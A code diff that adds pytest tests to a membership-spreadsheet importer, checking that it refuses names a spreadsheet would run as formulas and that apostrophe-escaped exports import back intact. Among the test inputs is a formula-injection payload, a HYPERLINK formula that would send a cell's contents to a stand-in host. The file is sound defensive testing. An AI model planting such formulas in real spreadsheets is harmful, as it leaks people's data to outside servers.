@@ -509,3 +509,39 @@ def test_a_workbook_that_unpacks_to_far_too_much_is_refused(world, en_client_for
 
     assert shown == [("—", "—", "This workbook unpacks to more than 2 MB, far more than member files take. Copy the "
                                 "members into a new workbook and upload that.")]
+
+
+# --- formulas -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", [
+    '=HYPERLINK("http://x/?"&E2,"x")', "+86", "-赵六", "@SUM(A1)", "'=HYPERLINK(\"http://x/\",\"x\")",
+])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(world, en_client_for, name):
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(HEADER)
+    ws.append([person(name)[t] for t in HEADER])
+    ws["A2"].data_type = "s"  # a text cell, as Excel stores '=... typed with an apostrophe
+    buffer = io.BytesIO()
+    wb.save(buffer)
+
+    shown = shown_errors(post(en_client_for(world.secretary), buffer.getvalue()))
+
+    assert shown == [("2", "姓名", "This cannot start with =, +, -, @ or a tab: spreadsheet programs would run it "
+                                 "as a formula.")]
+    assert Member.objects.count() == 2
+
+
+def test_text_that_the_export_escaped_imports_as_it_was(world, client_for):
+    # A post may start with a dash; the export writes it with a protective apostrophe, the import takes it off.
+    Member.objects.filter(pk=world.member.pk).update(post="-组织委员")
+    client = client_for(world.worker)
+    exported = client.get(reverse("members:export") + "?full_id=1").content
+    cell = openpyxl.load_workbook(io.BytesIO(exported)).worksheets[0]["J2"]
+    assert (cell.value, cell.data_type) == ("'-组织委员", "s")
+
+    result = post(client, exported).context["result"]
+
+    assert (result.ok, result.unchanged) == (True, 2), result.errors
+    assert Member.objects.get(pk=world.member.pk).post == "-组织委员"
